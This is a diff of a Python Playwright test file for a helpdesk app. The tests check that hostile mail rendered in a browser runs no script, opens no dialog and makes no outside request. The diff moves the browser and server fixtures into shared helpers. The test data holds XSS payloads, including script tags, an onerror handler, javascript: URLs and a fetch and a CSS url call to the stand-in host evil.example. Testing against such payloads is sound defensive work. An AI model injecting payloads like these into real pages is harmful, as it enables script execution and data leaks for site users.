@@ -1,23 +1,18 @@
 """Hostile mail in a real browser: on no page does a script run, a dialog open, or a request leave for elsewhere."""
 
-import threading
-import time
-import warnings
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-import uvicorn
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page
 
 from models.agent import Role
 from models.customer import Customer
 from tasks.database import writing
-from tests.house import free_port
-from tests.visitors import Visitor, file_mail, make_agent, signed_in, the_desk
+from tests.browsers import needs_chromium
+from tests.visitors import Visitor, file_mail, make_agent, signed_in
 
-CHROMIUM = "/usr/bin/chromium"
-pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed")
+pytestmark = needs_chromium
 RUN = "top.ran=1;alert(1);fetch('http://evil.example/')"
 IN_FIELDS = (
     f'<script>{RUN}</script><img src=x onerror="{RUN}">',
@@ -46,28 +41,10 @@ body{{background:url(http://evil.example/c.png)}}</style><script>{RUN}</script>
 <p style="background:url('javascript:{RUN}')">s</p><template><script>{RUN}</script></template></body></html>"""
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
-        yield browser
-        browser.close()
-
-
 @pytest.fixture
-def desk(home: Path, sqlite_url: str) -> Iterator[str]:
-    """The desk on a port of its own."""
-    port = free_port()
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # of the server's web socket library, which the desk has no use for
-        server = uvicorn.Server(uvicorn.Config(the_desk(), port=port, log_level="error", ws="none"))
-    thread = threading.Thread(target=server.run)
-    thread.start()
-    while not server.started:
-        time.sleep(0.01)
-    yield f"http://127.0.0.1:{port}"
-    server.should_exit = True
-    thread.join()
+def desk(home: Path, sqlite_url: str, served: str) -> str:
+    """The address of a desk without tickets."""
+    return served
 
 
 @pytest.fixture
